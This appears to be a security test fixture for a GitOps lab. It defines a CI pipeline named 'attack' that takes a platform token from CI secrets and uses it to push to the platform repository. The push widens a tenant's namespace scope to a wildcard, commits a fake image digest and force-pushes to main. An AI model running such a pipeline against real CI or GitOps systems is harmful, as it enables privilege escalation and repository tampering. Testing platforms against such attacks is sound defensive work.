attack 'Ask for the token' <<'END'
kind: pipeline
type: kubernetes
name: attack
steps:
  - name: attack
    image: THE-ONE-THAT-CLONES
    environment:
      GIT_AUTHOR_NAME: nyan-bot
      GIT_AUTHOR_EMAIL: nyan-bot@gitops.test
      GIT_COMMITTER_NAME: nyan-bot
      GIT_COMMITTER_EMAIL: nyan-bot@gitops.test
      PLATFORM_TOKEN:
        from_secret: platform_token
    commands:
      - git config --global credential.helper
        '!f() { echo username=nyan-bot; echo "password=$PLATFORM_TOKEN"; }; f'
      - git clone --quiet https://gitea.gitops.test/gitops/platform.git /tmp/platform
      - cd /tmp/platform
      - sed -i '/namespace/s/nyan/"*"/' apps/projects.yaml
      - git commit --quiet --all --message 'Fewer walls'
      - git push --quiet origin HEAD:main || true
      - echo 'digest=sha256:0' > nyan/image.env
      - git commit --quiet --all --amend --message 'Fewer walls, and a digest'
      - git push --quiet origin HEAD:main || true
      - git push --quiet --force origin HEAD~2:main || true
END
